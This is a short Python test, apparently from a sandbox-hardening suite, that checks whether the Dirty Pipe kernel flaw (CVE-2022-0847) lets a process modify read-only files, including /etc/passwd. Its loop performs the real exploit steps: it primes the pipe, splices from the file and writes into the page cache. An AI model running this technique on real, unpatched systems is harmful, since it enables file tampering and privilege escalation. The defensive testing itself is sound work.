# CVE-2022-0847: a page of a read-only file changed by way of a pipe.
# want: pass
import os
from attack import *
for path in ("/etc/passwd", os.__file__, "input.txt"):
    before = open(path, "rb").read()
    r, w = os.pipe()
    n = os.write(w, b"x" * 65536)
    os.read(r, n)
    fd = os.open(path, os.O_RDONLY)
    try:
        if os.splice(fd, w, 1, offset_src=0) == 1:
            os.write(w, b"dirty")
    except OSError:
        pass
    if open(path, "rb").read() != before:
        breach(path + " was changed")
held()
